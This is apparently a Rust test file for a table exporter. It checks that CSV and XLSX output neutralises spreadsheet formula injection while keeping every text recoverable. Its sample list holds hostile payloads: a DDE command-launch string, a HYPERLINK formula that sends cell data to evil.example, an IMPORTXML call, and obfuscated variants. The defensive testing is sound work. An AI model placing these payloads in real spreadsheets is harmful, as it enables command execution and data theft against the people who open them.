//! What hostile texts become on their way out, and that they can be had back.

use std::io::Cursor;

use calamine::{DataRef, Reader, Xlsx};

use super::*;

/// Texts that spreadsheets have been made to run, and some that only look alike.
const TEXTS: [&str; 24] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Bấm vào đây\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+84 251 3822 501",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u{a0}\u{200b}=1+1",
    "\u{feff}@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "'",
    "",
    "\"=1+1\",\"=2+2\"",
    "rất hài lòng, \"quầy 3\"\r\ndòng hai",
    "a=b",
    "{\"name\":\"=1+1\"}",
];

fn table() -> Table {
    let row = |text: &&str| vec![Cell::Whole(-7), Cell::text(*text)];
    Table {
        name: "bang".to_owned(),
        head: vec!["Số", "Nội dung"],
        rows: TEXTS.iter().map(row).collect(),
    }
}

#[test]
fn a_csv_has_its_mark_its_line_ends_and_every_text_can_be_had_back() {
    let bytes = table().csv().unwrap();
    let text = String::from_utf8(bytes).unwrap();
    let rest = text.strip_prefix("\u{feff}Số,Nội dung\r\n").expect("the mark and the head");
    assert!(rest.ends_with("\r\n"));
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(rest.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), TEXTS.len());
    for (row, text) in rows.iter().zip(TEXTS) {
        assert_eq!(&row[0], "-7", "a number stays a number");
        assert_eq!(quoted::unquoted(&row[1]), text, "as it was: {row:?}");
    }
}

/// Texts with a formula behind every sign that may end a cell.
fn hidden_formulas() -> Vec<String> {
    let ends = [";", "\t", "|", "\n", "\r\n", "\r", ",", ";;", "; ", ";\"", "\";", "\n\"", "\",\""];
    let formulas =
        ["=1+1", "+1", "-1+1", "@SUM(A1)", "\"=1+1\"", " =1+1", "＝1+1", "\u{a0}=1", "\"\"=1"];
    let texts = ends.iter().flat_map(|end| formulas.map(|it| ["x", end, it, end, "y"].concat()));
    texts.chain(TEXTS.map(str::to_owned)).chain(["x;=1+1;y".to_owned()]).collect()
}

#[test]
fn no_separator_makes_a_formula_of_a_text() {
    let texts = hidden_formulas();
    let row = |text: &String| vec![Cell::text("a"), Cell::text(text), Cell::text(text)];
    let first = |text: &String| vec![Cell::text(text), Cell::text("b"), Cell::text("c")];
    let rows = texts.iter().map(row).chain(texts.iter().map(first)).collect();
    let table = Table { head: vec!["A", "B", "C"], rows, ..table() };
    let bytes = table.csv().unwrap();
    let reader = |separator: u8| {
        let mut reader = csv::ReaderBuilder::new();
        reader.has_headers(false).flexible(true).delimiter(separator);
        reader
    };
    for separator in [b',', b';', b'\t', b'|'] {
        for is_quoting in [true, false] {
            // Who reads commas without quotes reads no table of ours.
            if separator == b',' && !is_quoting {
                continue;
            }
            let mut reader = reader(separator).quoting(is_quoting).from_reader(&bytes[3..]);
            for record in reader.byte_records() {
                for cell in &record.unwrap() {
                    let cell = String::from_utf8_lossy(cell).into_owned();
                    assert!(!looks_like_a_formula(cell.trim_start()), "{separator} {cell:?}");
                }
            }
        }
    }
    let mut reader = reader(b',').from_reader(&bytes[3..]);
    let back = reader.records().skip(1).map(|row| quoted::unquoted(&row.unwrap()[1]));
    assert_eq!(back.take(texts.len()).collect::<Vec<_>>(), texts);
}

#[test]
fn no_text_in_a_csv_begins_like_a_formula() {
    let quoted: Vec<bool> = TEXTS.iter().map(|text| Cell::text(*text).in_csv() != *text).collect();
    let (hostile, harmless) = quoted.split_at(19);
    assert!(hostile.iter().all(|quoted| *quoted), "{hostile:?}");
    assert!(harmless.iter().all(|quoted| !quoted), "{harmless:?}");
}

#[test]
fn a_workbook_holds_texts_as_texts_and_no_formula_at_all() {
    let bytes = table().xlsx().unwrap();
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    assert!(book.worksheet_formula("Sheet1").unwrap().is_empty());
    let mut cells = book.worksheet_cells_reader("Sheet1").unwrap();
    let mut texts = Vec::new();
    while let Some(cell) = cells.next_cell().unwrap() {
        match (cell.get_position(), cell.get_value()) {
            ((0, _), _) => {}
            ((_, 0), DataRef::Float(number)) => assert_eq!(*number, -7.0),
            ((_, 1), DataRef::SharedString(text)) => texts.push((*text).to_owned()),
            other => panic!("neither a number nor a text: {other:?}"),
        }
    }
    // An empty text is no cell, and XML knows one kind of line end.
    let wanted = TEXTS.iter().filter(|text| !text.is_empty()).map(|text| text.to_string());
    assert_eq!(texts, wanted.collect::<Vec<_>>());
}

#[test]
fn a_text_too_long_for_a_cell_is_cut_with_a_sign() {
    assert_eq!(short(&"a".repeat(MOST_TEXT)).len(), MOST_TEXT);
    let cut = short(&"😀".repeat(MOST_TEXT));
    assert!(cut.ends_with('…') && cut.encode_utf16().count() <= MOST_TEXT + 1);
    let long = Table { rows: vec![vec![Cell::text("ệ".repeat(40_000))]], ..table() };
    assert!(long.xlsx().is_ok());
}

#[test]
fn figures_are_numbers_that_look_as_the_page_writes_them() {
    let figures = [
        (Some("83.94"), true, "83,94%", 0.8394, "0.00%"),
        (Some("84"), true, "84%", 0.84, "0%"),
        (Some("100.00"), true, "100,00%", 1.0, "0.00%"),
        (Some("0.13"), true, "0,13%", 0.0013, "0.00%"),
        (Some("1.25"), false, "1,25", 1.25, "0.00"),
        (Some("12"), false, "12", 12.0, "0"),
    ];
    let cells: Vec<Cell> =
        figures.iter().map(|it| Cell::figure(it.0, it.1, it.2.to_owned())).collect();
    for (cell, (_, _, text, value, look)) in cells.iter().zip(figures) {
        let Cell::Figure(figure) = cell else { panic!("{text} is a number") };
        assert_eq!((figure.value(), figure.look().as_str()), (value, look), "{text}");
        assert_eq!(cell.in_csv(), text, "a file of text is the page");
    }
    assert_eq!(Cell::figure(None, true, "—".to_owned()), Cell::text("—"));
    let table =
        Table { rows: cells.iter().map(|it| vec![it.clone(), it.clone()]).collect(), ..table() };
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(table.xlsx().unwrap())).unwrap();
    let sheet = book.worksheet_range("Sheet1").unwrap();
    let found: Vec<f64> =
        sheet.rows().skip(1).filter_map(|row| calamine::DataType::get_float(&row[0])).collect();
    assert_eq!(found, figures.map(|it| it.3), "nothing is left as a text");
}
